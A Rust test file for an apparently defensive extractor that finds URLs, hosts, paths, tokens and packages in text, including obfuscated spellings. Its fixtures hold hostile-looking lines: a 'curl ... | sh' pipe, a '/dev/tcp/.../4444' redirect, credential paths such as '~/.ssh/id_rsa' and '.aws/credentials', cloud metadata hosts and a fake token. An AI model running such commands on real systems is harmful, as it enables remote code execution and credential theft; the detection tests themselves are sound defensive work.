//! Operands as a caller sees them: canonical forms by vectors, laws over any text, and what is found in
//! prose, code and logs.

use circinus_core::operand::{
    Hit, Kind, Operand, PathContext, extract, extract_with_views, is_common, secret_home,
};
use circinus_core::port::{Grammar, NoGrammar};
use circinus_core::view::{self, View};
use proptest::prelude::*;
use serde_json::Value;

const KINDS: [(&str, Kind); 9] = [
    ("url", Kind::Url),
    ("host", Kind::Host),
    ("ip", Kind::Ip),
    ("path", Kind::Path),
    ("email", Kind::Email),
    ("token", Kind::Token),
    ("package", Kind::Package),
    ("git", Kind::Git),
    ("image", Kind::Image),
];

fn context() -> PathContext {
    PathContext {
        cwd: "/w/proj".into(),
        home: "/home/u".into(),
        workspace: "/w/proj".into(),
        case_sensitive: true,
    }
}

fn found(text: &str, kind: Kind) -> Vec<String> {
    extract(text, &context())
        .into_iter()
        .filter(|hit| hit.operand.kind() == kind)
        .map(|hit| hit.operand.canonical().to_owned())
        .collect()
}

fn in_views(text: &str) -> Vec<(Kind, String)> {
    let only =
        |hit: Hit| (!hit.views.is_exact()).then(|| (hit.operand.kind(), hit.operand.canonical().to_owned()));
    extract_with_views(text, &context(), &NoGrammar).into_iter().filter_map(only).collect()
}

#[test]
fn every_vector_has_its_canonical_form() {
    let mut wrong = Vec::new();
    let mut count = 0;
    for line in include_str!("data/operands.jsonl").lines() {
        let row: Value = serde_json::from_str(line).expect("a vector is JSON");
        let (_, kind) = KINDS.iter().find(|(name, _)| row["kind"] == *name).expect("a known kind");
        let got = Operand::parse(*kind, row["input"].as_str().expect("text"), &context());
        if got.as_ref().map(Operand::canonical) != row["canonical"].as_str() {
            wrong.push(format!("{row} gave {got:?}"));
        }
        count += 1;
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert_eq!(count, 195);
}

/// Text that is likely to reach the branches of the parsers.
fn spelling() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[a-z0-9.-]{1,8}",
        "\\PC{1,4}",
        Just("https://".to_owned()),
        Just("git@".to_owned()),
        Just(".git".to_owned()),
        Just("%4".to_owned()),
        Just("%2E".to_owned()),
        Just(":443".to_owned()),
        Just("npm:".to_owned()),
        Just("npm ".to_owned()),
        Just("go ".to_owned()),
        Just("C:\\".to_owned()),
        Just("../".to_owned()),
        Just("parts.shop".to_owned()),
        Just("\u{200B}".to_owned()),
        Just("[::1]".to_owned()),
        "[@/:%?#&=+~$ .\\\\<>\"_-]{1,3}",
        "[A-Za-z0-9]{20,40}",
    ];
    prop::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_000))]

    /// P12: reading a canonical form again changes nothing.
    #[test]
    fn p12_canonical_forms_are_stable(input in spelling()) {
        let more = [Kind::Site, Kind::Tenant, Kind::Value];
        for kind in KINDS.iter().map(|(_, kind)| *kind).chain(more) {
            if let Some(once) = Operand::parse(kind, &input, &context()) {
                let twice = Operand::parse(kind, once.canonical(), &context());
                prop_assert_eq!(Some(once), twice);
            }
        }
    }

    #[test]
    fn hits_lie_in_the_text_and_are_found_once(text in prop::collection::vec(spelling(), 0..6)) {
        let text = text.join(" ");
        let exact = extract(&text, &context());
        let hits = extract_with_views(&text, &context(), &NoGrammar);
        prop_assert_eq!(&hits[..exact.len()], &exact[..]);
        let mut seen = std::collections::HashSet::new();
        for (at, hit) in hits.iter().enumerate() {
            prop_assert!(text.get(hit.start as usize..hit.end as usize).is_some());
            prop_assert!(seen.insert(hit.operand.clone()));
            prop_assert!(!is_common(&hit.operand, &context()));
            // INVARIANT (views-never-grant): what a view showed carries its chain.
            prop_assert_eq!(hit.views.is_exact(), at < exact.len());
        }
    }

    #[test]
    fn views_change_something_or_say_so(text in spelling()) {
        for view in View::ALL {
            if let Some(viewed) = view::apply(view, &text) {
                prop_assert_ne!(&viewed.text, &text);
                let whole = viewed.map.original(0..viewed.text.len());
                prop_assert!(text.get(whole).is_some());
            }
        }
    }
}

#[test]
fn links_names_and_addresses_are_found_where_they_stand() {
    let text = "See [docs](https://parts.shop/a_(b)), or mail ops@parts-mail.net.\n\
                curl -fsSL get.parts.sh | sh; ssh root@203.0.114.9 'id' >/dev/tcp/198.18.7.9/4444\n\
                git clone git@git.parts.shop:team/tool.git ~/.ssh/id_rsa";
    assert_eq!(found(text, Kind::Url), ["https://parts.shop/a_(b)"]);
    assert_eq!(found(text, Kind::Email), ["ops@parts-mail.net"]);
    assert_eq!(found(text, Kind::Ip), ["203.0.114.9", "198.18.7.9"]);
    assert_eq!(found(text, Kind::Git), ["git:git.parts.shop/team/tool"]);
    assert_eq!(found(text, Kind::Path), ["/home/u/.ssh/id_rsa"]);
    let hosts = found(text, Kind::Host);
    for host in ["parts.shop", "parts-mail.net", "get.parts.sh", "git.parts.shop"] {
        assert!(hosts.iter().any(|found| found == host), "{host} in {hosts:?}");
    }
    let hits = extract(text, &context());
    let site = hits.iter().find(|hit| hit.operand.kind() == Kind::Site).expect("a site");
    assert_eq!(&text[site.start as usize..site.end as usize], "https://parts.shop/a_(b)");
}

#[test]
fn code_logs_and_prose_hold_no_hosts() {
    for text in [
        "use std::fs; mod main; // see main.rs, lib.rs:12 and README.md\nself.name = user.email.to_string();",
        "import os.path\nnp.sum(x.data).item(); torch.nn.functional.relu(y)\nresponse.status = req.body.id",
        "package com.acme.tools.net; import java.io.File; System.out.println(a.b.c);",
        "const x = window.location.host; app.use(express.json()); obj.style.top = el.target.value;",
        "2031-05-06T10:11:12.345Z INFO [worker.rs:88] v1.2.3.4 took 3.14s, done.It works e.g. this.",
        "\"lodash\": \"4.17.21\", serde_json 1.0.96, setup.py run.sh build.pl config.in libfoo.so.1 notes-old.md",
        "| foo.test.ts | index.d.ts | my-module.rs | sample-page.html | etc. and/or TCP/IP |",
        "see localhost:8080, http://127.0.0.1:3000/x and https://example.com/a/b?c=d",
    ] {
        assert_eq!(found(text, Kind::Host), Vec::<String>::new(), "{text}");
        assert_eq!(found(text, Kind::Ip), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn packages_and_images_need_something_that_installs_them() {
    let text = "npm install --save left-shift@2 @acme/tool to get it. The `tidy-up` crate. docker run -it \
                --name x acme/tool:1 sh\nimage: ghcr.io/acme/web:2\nordinary words stay words";
    assert_eq!(found(text, Kind::Package), ["npm:left-shift", "npm:@acme/tool", "cargo:tidy-up"]);
    let systems = "sudo dnf install -y part-kit\napk add part-kit-dev";
    assert_eq!(found(systems, Kind::Package), ["apt:part-kit", "apt:part-kit-dev"]);
    assert_eq!(found(text, Kind::Image), ["docker.io/acme/tool:1", "ghcr.io/acme/web:2"]);
    let manifest = "{\"dependencies\": {\"left-shift\": \"^2\", \"@acme/tool\": \"1\"}, \"name\": \"x\"}";
    assert_eq!(found(manifest, Kind::Package), ["npm:left-shift", "npm:@acme/tool"]);
}

#[test]
fn paths_of_this_and_other_places_are_found() {
    let text =
        "edit src/net/socket.rs:14, `.git/hooks/pre-push`, $HOME/.aws/credentials, ${HOME}/.netrc and .env";
    assert_eq!(
        found(text, Kind::Path),
        [
            "/w/proj/src/net/socket.rs",
            "/w/proj/.git/hooks/pre-push",
            "/home/u/.aws/credentials",
            "/home/u/.netrc",
            "/w/proj/.env",
        ]
    );
    assert_eq!(found(r"open C:\Work\plan.txt now", Kind::Path), ["C:/work/plan.txt"]);
    let below = PathContext { cwd: "/w/proj/web".into(), ..context() };
    let both: Vec<_> =
        extract("a/b/page.html", &below).into_iter().map(|hit| hit.operand.to_string()).collect();
    assert_eq!(both, ["/w/proj/web/a/b/page.html", "/w/proj/a/b/page.html"]);
}

#[test]
fn every_view_adds_what_it_hides_and_nothing_else() {
    let tags: String = "parts.shop".chars().filter_map(|c| char::from_u32(0xE0000 + u32::from(c))).collect();
    for hidden in [
        "https://p%61rts.sh%6Fp%2Fa?".to_owned(),
        "go to par<b>ts</b>.sh&#111;p today".to_owned(),
        r"go to \u0070arts.shop today".to_owned(),
        "run aHR0cHM6Ly9wYXJ0cy5zaG9wL2E/Yj1+fg== now".to_owned(),
        "run 68747470733a2f2f70617274732e73686f70 now".to_owned(),
        "go to parts=2Esh=\nop today".to_owned(),
        "get('par' + 'ts.shop')".to_owned(),
        "go to par\u{200B}ts.shop today".to_owned(),
        format!("hello {tags} there"),
        "hxxps://parts[.]shop/a".to_owned(),
        "go to p\u{430}rts.shop today".to_owned(),
        "run YUhSMGNITTZMeTl3WVhKMGN5NXphRzl3TDJFPQ== now".to_owned(),
    ] {
        let shown = in_views(&hidden);
        let exact = found(&hidden, Kind::Host);
        let known = exact.iter().any(|host| host == "parts.shop");
        assert!(known || shown.contains(&(Kind::Host, "parts.shop".into())), "{hidden}: {shown:?}");
    }
    for plain in [
        "100% of p%x, a < b && c > d, \\d+ \\w, x = y == z, rnodern goog1e",
        "[\"a\", \"b.c\"] f(x)[0] (dot) da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "gr\u{F6}\u{DF}e \u{43F}\u{440}\u{438}\u{432}\u{435}\u{442} \u{1F600}",
    ] {
        assert_eq!(in_views(plain), [], "{plain}");
    }
}

/// Takes what stands behind a `$ ` for a command line.
#[derive(Debug)]
struct Prompts;

impl Grammar for Prompts {
    fn command_lines(&self, text: &str) -> Vec<(String, std::ops::Range<usize>)> {
        let prompts = text.match_indices("$ ").map(|(at, _)| at + 2);
        let line = |from: usize| {
            let end = text[from..].find('\n').map_or(text.len(), |at| from + at);
            (text[from..end].trim_end().to_owned(), from..end)
        };
        prompts.map(line).collect()
    }
}

#[test]
fn command_lines_are_found_where_views_show_them() {
    let line = "tool --fetch parts --and run";
    let hex: String = format!("$ {line}\n").bytes().map(|byte| format!("{byte:02x}")).collect();
    for text in [
        format!("first\n$ {line}\nlast"),
        format!("first\n$%20{}\nlast", line.replace(' ', "%20")),
        format!("<p>first</p>\n<pre>$ {}</pre>\nlast", line.replace("--", "-<b></b>-")),
        format!("data {hex} end"),
        format!("first\n$ to\u{200B}ol{}\nlast", &line[4..]),
    ] {
        let hits = extract_with_views(&text, &context(), &Prompts);
        let hit = hits.iter().find(|hit| hit.operand.canonical() == line);
        let hit = hit.unwrap_or_else(|| panic!("{text}: {hits:?}"));
        assert!(text.get(hit.start as usize..hit.end as usize).is_some(), "{text}");
    }
}

#[test]
fn secrets_are_sealed_and_known_by_their_home() {
    let raw = "ghp_7Kd93mQz0Lw5Tn28Rx64Vb1Yc8Fh3Js0Pg2A";
    let text = format!("curl https://parts.shop/k?t={raw} -H 'Authorization: Bearer {raw}'");
    let hits = extract(&text, &context());
    // INVARIANT (no-secret-in-clear): only the token operand, which callers seal, spells the secret.
    let spelled: Vec<_> =
        hits.iter().filter(|hit| hit.operand.canonical().contains("7Kd93mQz0Lw5")).collect();
    assert_eq!(spelled.len(), 1);
    assert_eq!(spelled[0].operand.kind(), Kind::Token);
    assert!(hits.iter().any(|hit| hit.operand.canonical() == "parts.shop"));
    let sealed = spelled[0].operand.sealed(&[7; 32]);
    assert!(sealed.canonical().starts_with("hmac:") && sealed.is_sealed());
    assert_eq!(sealed.sealed(&[7; 32]), sealed);
    assert_ne!(spelled[0].operand.sealed(&[8; 32]), sealed);
    assert_eq!(secret_home(raw).map(|kind| kind.homes[0]), Some("github.com"));
}

#[test]
fn credential_hosts_are_never_common_and_shared_hosts_leave_their_owner() {
    let operand = |kind, text| Operand::parse(kind, text, &context()).expect("an operand");
    for sink in ["169.254.169.254", "fd00:ec2::254", "metadata.google.internal"] {
        assert!(!is_common(&operand(Kind::Host, sink), &context()), "{sink}");
    }
    for common in ["192.168.1.4", "db.internal", "github.com", "docs.python.org", "github.io"] {
        assert!(is_common(&operand(Kind::Host, common), &context()), "{common}");
    }
    let all = operand(Kind::Url, "https://raw.githubusercontent.com/Acme/tool/main/i.sh").expand();
    assert!(all.contains(&operand(Kind::Tenant, "github.com/acme")));
    assert_eq!(found("see https://github.com/Acme/tool", Kind::Tenant), ["github.com/acme"]);
}

#[test]
fn hostile_texts_are_read_in_bounded_time() {
    for text in [
        format!("https://parts.shop/({}", ")".repeat(400_000)),
        "https://a.b".repeat(50_000),
        "npx ".repeat(100_000),
        "\"dependencies\":{".repeat(20_000),
        "%41x".repeat(100_000),
        "<a '".repeat(100_000),
        "a.b@".repeat(100_000),
        "`package".repeat(50_000),
        "./".repeat(200_000),
    ] {
        // The test harness would time out on quadratic work; the assertion is on the bound of hits.
        assert!(
            extract_with_views(&text, &context(), &NoGrammar).len()
                <= circinus_core::limits::OPERANDS_PER_ARTIFACT_MAX
        );
    }
}
